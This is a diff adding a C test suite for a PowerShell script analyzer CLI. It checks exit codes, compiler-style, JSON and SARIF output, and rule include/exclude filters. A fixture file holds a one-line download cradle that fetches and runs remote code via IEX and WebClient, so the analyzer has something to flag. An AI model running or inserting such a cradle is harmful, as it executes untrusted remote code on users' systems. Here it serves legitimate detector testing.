@@ -1,0 +1,273 @@
+/* test-analyzer-cli.c: `psscript analyze` exit codes, formats and the SARIF 2.1.0 shape */
+#include "config.h"
+
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <json-c/json.h>
+
+#include "analyzer/analyze_cli.h"
+#include "analyzer/analyzer.h"
+#include "core/core.h"
+#include "t.h"
+
+static char tmpdir[] = "/tmp/pss-analyze-XXXXXX";
+static struct buf out;
+
+static void
+write_file(const char *name, const char *content)
+{
+	char path[512];
+	FILE *f;
+
+	snprintf(path, sizeof(path), "%s/%s", tmpdir, name);
+	f = fopen(path, "wb");
+	if (f == NULL)
+		abort();
+	fputs(content, f);
+	fclose(f);
+}
+
+/* Run the CLI with argv (NULL-terminated, after "analyze"); capture stdout in out. */
+static int
+run(const char *const *args)
+{
+	char *argv[32];
+	int argc = 0, rc, saved_out, saved_err, fd, devnull;
+	char path[512], chunk[4096];
+	ssize_t n;
+
+	argv[argc++] = (char *)"analyze";
+	for (; *args != NULL && argc < 31; args++) {
+		static char bufs[32][512];
+
+		if (strncmp(*args, "@/", 2) == 0)	/* @/name: a file in the temp dir */
+			snprintf(bufs[argc], sizeof(bufs[argc]), "%s/%s", tmpdir, *args + 2);
+		else if (strcmp(*args, "@") == 0)
+			snprintf(bufs[argc], sizeof(bufs[argc]), "%s", tmpdir);
+		else
+			snprintf(bufs[argc], sizeof(bufs[argc]), "%s", *args);
+		argv[argc] = bufs[argc];
+		argc++;
+	}
+	argv[argc] = NULL;
+	snprintf(path, sizeof(path), "%s/stdout", tmpdir);
+	fflush(stdout);
+	fflush(stderr);
+	saved_out = dup(1);
+	saved_err = dup(2);
+	fd = open(path, O_RDWR | O_CREAT | O_TRUNC, 0600);
+	devnull = open("/dev/null", O_WRONLY);
+	dup2(fd, 1);
+	dup2(devnull, 2);
+	rc = analyze_cli_main(argc, argv);
+	fflush(stdout);
+	fflush(stderr);
+	dup2(saved_out, 1);
+	dup2(saved_err, 2);
+	close(saved_out);
+	close(saved_err);
+	close(devnull);
+	buf_reset(&out);
+	lseek(fd, 0, SEEK_SET);
+	while ((n = read(fd, chunk, sizeof(chunk))) > 0)
+		buf_append(&out, chunk, (size_t)n);
+	close(fd);
+	buf_putc(&out, '\0');
+	out.len--;
+	return rc;
+}
+
+static void
+test_exit_status_clean_is_0(void)
+{
+	const char *a[] = { "@/clean.ps1", NULL };
+
+	T_EQ(run(a), 0);
+	T_CONTAINS(out.data, "0 errors, 0 warnings");
+}
+
+static void
+test_exit_status_findings_at_fail_on_is_1(void)
+{
+	const char *a[] = { "@/bad.ps1", NULL };
+	const char *none[] = { "@/bad.ps1", "--fail-on", "none", NULL };
+	const char *info[] = { "@/info.ps1", "--fail-on", "information", NULL };
+	const char *info_err[] = { "@/info.ps1", NULL };
+
+	T_EQ(run(a), 1);
+	T_EQ(run(none), 0);
+	T_EQ(run(info), 1);
+	T_EQ(run(info_err), 0);
+}
+
+static void
+test_exit_status_usage_and_io_errors_are_2(void)
+{
+	const char *missing[] = { "@/no-such-file.ps1", NULL };
+	const char *badopt[] = { "--bogus", "@/clean.ps1", NULL };
+	const char *badfmt[] = { "--format", "xml", "@/clean.ps1", NULL };
+	const char *badsev[] = { "--severity", "fatal", "@/clean.ps1", NULL };
+	const char *badrule[] = { "--include-rule", "NoSuchRule", "@/clean.ps1", NULL };
+	const char *noargs[] = { NULL };
+
+	T_EQ(run(missing), 2);
+	T_EQ(run(badopt), 2);
+	T_EQ(run(badfmt), 2);
+	T_EQ(run(badsev), 2);
+	T_EQ(run(badrule), 2);
+	T_EQ(run(noargs), 2);
+}
+
+static void
+test_text_is_compiler_style(void)
+{
+	const char *a[] = { "@/bad.ps1", NULL };
+	char want[600];
+
+	run(a);
+	snprintf(want, sizeof(want), "%s/bad.ps1:1:1: error: ", tmpdir);
+	T_CONTAINS(out.data, want);
+	T_CONTAINS(out.data, "[PSSAvoidDownloadCradle]");
+}
+
+static void
+test_json_equals_the_stored_analysis(void)
+{
+	const char *a[] = { "--format", "json", "@/bad.ps1", NULL };
+	const char *src = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')\n";
+	struct ps_analysis *an = NULL;
+	struct json_object *mine, *cli;
+
+	T_EQ(run(a), 1);
+	cli = json_tokener_parse(out.data);
+	T_ASSERT(cli != NULL);
+	T_EQ(ps_analyze(src, strlen(src), NULL, &an), PSS_OK);
+	mine = ps_analysis_to_json(an);
+	T_ASSERT(json_object_equal(cli, mine));
+	T_ASSERT(json_object_object_get(cli, "securityIssues") != NULL);
+	T_ASSERT(json_object_object_get(cli, "codeQualityScore") != NULL);
+	json_object_put(cli);
+	json_object_put(mine);
+	ps_analysis_free(an);
+}
+
+static struct json_object *
+path(struct json_object *o, const char *const *keys)
+{
+	for (; o != NULL && *keys != NULL; keys++) {
+		if (json_object_is_type(o, json_type_array))
+			o = json_object_array_get_idx(o, (size_t)strtoul(*keys, NULL, 10));
+		else
+			o = json_object_object_get(o, *keys);
+	}
+	return o;
+}
+
+static void
+test_sarif_shape(void)
+{
+	const char *a[] = { "--format", "sarif", "@/bad.ps1", "@/aliases.ps1", NULL };
+	struct json_object *log, *results, *rules;
+	size_t nrules, nfix = 0;
+	const char *const version[] = { "version", NULL };
+	const char *const rpath[] = { "runs", "0", "tool", "driver", "rules", NULL };
+	const char *const respath[] = { "runs", "0", "results", NULL };
+
+	ps_rules(&nrules);
+	T_EQ(run(a), 1);
+	log = json_tokener_parse(out.data);
+	T_ASSERT(log != NULL);
+	T_STREQ(json_object_get_string(path(log, version)), "2.1.0");
+	T_CONTAINS(json_object_get_string(json_object_object_get(log, "$schema")), "sarif-schema-2.1.0");
+	rules = path(log, rpath);
+	T_EQ(json_object_array_length(rules), nrules);
+	results = path(log, respath);
+	T_ASSERT(results != NULL && json_object_array_length(results) >= 3);
+	for (size_t i = 0; results != NULL && i < json_object_array_length(results); i++) {
+		struct json_object *r = json_object_array_get_idx(results, i), *fixes;
+		const char *const region[] = { "locations", "0", "physicalLocation", "region",
+		    "startLine", NULL };
+		const char *const uri[] = { "locations", "0", "physicalLocation", "artifactLocation",
+		    "uri", NULL };
+		const char *const msg[] = { "message", "text", NULL };
+		const char *lvl = json_object_get_string(json_object_object_get(r, "level"));
+		int ri = json_object_get_int(json_object_object_get(r, "ruleIndex"));
+
+		T_ASSERT(strcmp(lvl, "error") == 0 || strcmp(lvl, "warning") == 0 ||
+		    strcmp(lvl, "note") == 0);
+		T_ASSERT(json_object_get_int(path(r, region)) >= 1);
+		T_ASSERT(path(r, uri) != NULL && path(r, msg) != NULL);
+		T_STREQ(json_object_get_string(json_object_object_get(r, "ruleId")),
+		    json_object_get_string(json_object_object_get(
+		    json_object_array_get_idx(rules, (size_t)ri), "id")));
+		if ((fixes = json_object_object_get(r, "fixes")) != NULL) {
+			const char *const del[] = { "0", "artifactChanges", "0", "replacements", "0",
+			    "deletedRegion", "startColumn", NULL };
+			const char *const desc[] = { "0", "description", "text", NULL };
+
+			nfix++;
+			T_ASSERT(json_object_get_int(path(fixes, del)) >= 1);
+			T_ASSERT(path(fixes, desc) != NULL);
+		}
+	}
+	T_ASSERTF(nfix >= 1, "no result carries a fix");
+	json_object_put(log);
+}
+
+static void
+test_directory_and_rule_filters(void)
+{
+	const char *dir[] = { "--format", "json", "--fail-on", "none", "@", NULL };
+	const char *only[] = { "--include-rule", "PSAvoidUsingCmdletAliases", "--fail-on",
+	    "warning", "@/aliases.ps1", NULL };
+	const char *excl[] = { "--exclude-rule", "PSAvoidUsingCmdlet*,PSUseCorrect*", "--fail-on",
+	    "warning", "@/aliases.ps1", NULL };
+	struct json_object *arr;
+
+	T_EQ(run(dir), 0);
+	arr = json_tokener_parse(out.data);
+	T_ASSERT(arr != NULL && json_object_array_length(arr) == 4);	/* *.ps1 only */
+	json_object_put(arr);
+	T_EQ(run(only), 1);
+	T_CONTAINS(out.data, "PSAvoidUsingCmdletAliases");
+	T_ASSERT(strstr(out.data, "PSAvoidTrailing") == NULL);
+	run(excl);
+	T_ASSERT(strstr(out.data, "PSAvoidUsingCmdletAliases") == NULL);
+}
+
+int
+main(void)
+{
+	if (mkdtemp(tmpdir) == NULL)
+		return 1;
+	write_file("clean.ps1", "<#\n.SYNOPSIS\nShows the date.\n#>\nGet-Date\n");
+	write_file("bad.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')\n");
+	write_file("info.ps1", "Get-Date  \n");
+	write_file("aliases.ps1", "gci | ? { $_.Length -gt 1 }\n");
+	write_file("notes.txt", "not a script\n");
+	T_RUN(test_exit_status_clean_is_0);
+	T_RUN(test_exit_status_findings_at_fail_on_is_1);
+	T_RUN(test_exit_status_usage_and_io_errors_are_2);
+	T_RUN(test_text_is_compiler_style);
+	T_RUN(test_json_equals_the_stored_analysis);
+	T_RUN(test_sarif_shape);
+	T_RUN(test_directory_and_rule_filters);
+	{
+		const char *names[] = { "clean.ps1", "bad.ps1", "info.ps1", "aliases.ps1",
+		    "notes.txt", "stdout" };
+		char p[600];
+
+		for (size_t i = 0; i < PSS_ARRAY_LEN(names); i++) {
+			snprintf(p, sizeof(p), "%s/%s", tmpdir, names[i]);
+			unlink(p);
+		}
+		rmdir(tmpdir);
+	}
+	buf_free(&out);
+	return t_done();
+}
